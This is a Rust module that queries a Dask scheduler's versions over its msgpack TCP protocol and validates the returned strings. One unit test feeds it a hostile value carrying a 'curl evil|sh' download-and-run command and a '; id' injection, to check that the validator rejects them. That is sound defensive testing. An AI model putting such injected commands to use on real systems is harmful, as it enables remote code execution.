//! Reads the versions of a Dask scheduler by the scheduler's own protocol, because its dashboard does not show them.
//!
//! A message is a length of 8 bytes, a count of frames, their lengths, and the frames; small ones are one frame of msgpack, never
//! compressed. Both sides begin with a handshake. Source: `distributed/comm/tcp.py` and `distributed/protocol/utils.py` of
//! distributed 2026.8.0; tried against it.

use std::net::Ipv4Addr;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// The maximum size of a response to these requests, in bytes.
const MAX_RESPONSE_BYTES: u64 = 64 * 1024;

/// `{"compression": None, "python": (3, 11, 0), "pickle-protocol": 5}`.
const HELLO: &[u8] = b"\x83\xabcompression\xc0\xa6python\x93\x03\x0b\x00\xafpickle-protocol\x05";
/// `{"op": "versions", "reply": True}`.
const VERSIONS: &[u8] = b"\x82\xa2op\xa8versions\xa5reply\xc3";
/// The key of the table of versions. The Python version before it is not a package's.
const PACKAGES: &[u8] = b"\xa8packages";

/// Versions that a client should match.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Versions {
    pub python: Option<String>,
    pub dask: Option<String>,
    pub distributed: Option<String>,
}

/// Asks a scheduler for its versions; `None` if its response cannot be parsed.
pub async fn versions(stream: &mut (impl AsyncRead + AsyncWrite + Unpin)) -> Option<Versions> {
    write(stream, HELLO).await?;
    read(stream).await?;
    write(stream, VERSIONS).await?;
    let answer = read(stream).await?;
    let found = found(&answer);
    (found != Versions::default()).then_some(found)
}

/// Asks the scheduler at a port of this machine.
pub async fn versions_on_port(port: u16) -> Option<Versions> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).await.ok()?;
    versions(&mut stream).await
}

/// Returns true for text that can be a version. Users of a scheduler can make it answer anything, and versions are printed in
/// commands. Source: PEP 440 has fewer characters.
pub fn is_version(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '!' | '_' | '-');
    (1..=40).contains(&text.len())
        && text.starts_with(|c: char| c.is_ascii_digit())
        && text.chars().all(plain)
}

async fn write(stream: &mut (impl AsyncWrite + Unpin), message: &[u8]) -> Option<()> {
    let length = u64::try_from(message.len()).ok()?;
    let mut bytes = Vec::with_capacity(message.len() + 24);
    for number in [length + 16, 1, length] {
        bytes.extend_from_slice(&number.to_le_bytes());
    }
    bytes.extend_from_slice(message);
    stream.write_all(&bytes).await.ok()?;
    stream.flush().await.ok()
}

async fn read(stream: &mut (impl AsyncRead + Unpin)) -> Option<Vec<u8>> {
    let length = stream.read_u64_le().await.ok().filter(|length| *length <= MAX_RESPONSE_BYTES)?;
    let mut bytes = vec![0; usize::try_from(length).ok()?];
    stream.read_exact(&mut bytes).await.ok()?;
    Some(bytes)
}

fn found(answer: &[u8]) -> Versions {
    let start = answer.windows(PACKAGES.len()).position(|window| window == PACKAGES).unwrap_or(answer.len());
    let packages = &answer[start..];
    Versions {
        // `3.11.7.final.0`.
        python: value(packages, "python").map(|text| text.split('.').take(3).collect::<Vec<_>>().join(".")),
        dask: value(packages, "dask"),
        distributed: value(packages, "distributed"),
    }
}

/// Returns the short string after a short key, in msgpack: a byte with the length in its lower five bits, then the text.
fn value(packed: &[u8], key: &str) -> Option<String> {
    let head = 0xa0 | u8::try_from(key.len()).ok().filter(|length| *length < 32)?;
    let word: Vec<u8> = std::iter::once(head).chain(key.bytes()).collect();
    let behind = packed.windows(word.len()).position(|window| window == word)? + word.len();
    let length =
        packed.get(behind).filter(|byte| **byte & 0xe0 == 0xa0).map(|byte| usize::from(byte & 0x1f))?;
    let text = packed.get(behind + 1..behind + 1 + length)?;
    String::from_utf8(text.to_vec()).ok().filter(|text| is_version(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// As a scheduler of distributed 2026.8.0 wrote it, shortened.
    const ANSWER: &[u8] = b"\x01\0\0\0\0\0\0\0\x23\x01\0\0\0\0\0\0\x82\xa4host\x82\xa6python\xae3.11.7.final.0\
        \xa2OS\xa5Linux\xa8packages\x85\xa6python\xae3.11.7.final.0\xa4dask\xa82026.8.0\xabdistributed\xa82026.8.0\
        \xa7msgpack\xa51.2.4\xa5numpy\xc0";

    #[test]
    fn versions_are_found_and_what_is_missing_is_not() {
        let text = |text: &str| Some(text.to_owned());
        let expect =
            Versions { python: text("3.11.7"), dask: text("2026.8.0"), distributed: text("2026.8.0") };
        assert_eq!(found(ANSWER), expect);
        assert_eq!(value(ANSWER, "numpy"), None, "it has none");
        assert_eq!(found(b"HTTP/1.1 400 Bad Request"), Versions::default());
        assert_eq!(found(b"\xa8packages\xa4dask\xbf20"), Versions::default(), "cut off");
        // 31 bytes that somebody chose are no version.
        assert_eq!(
            found(b"\xa8packages\xa4dask\xaf1`curl evil|sh`\xabdistributed\xa71; id #"),
            Versions::default()
        );
    }

    #[tokio::test]
    async fn a_scheduler_is_asked_and_silence_is_no_answer() {
        let (mut client, mut server) = tokio::io::duplex(4096);
        let scheduler = tokio::spawn(async move {
            write(&mut server, HELLO).await.unwrap();
            assert!(read(&mut server).await.unwrap().ends_with(HELLO));
            assert!(read(&mut server).await.unwrap().ends_with(VERSIONS));
            write(&mut server, &ANSWER[16..]).await.unwrap();
        });
        assert_eq!(versions(&mut client).await.unwrap().dask.as_deref(), Some("2026.8.0"));
        scheduler.await.unwrap();
        let (mut client, server) = tokio::io::duplex(4096);
        drop(server);
        assert_eq!(versions(&mut client).await, None);
    }
}
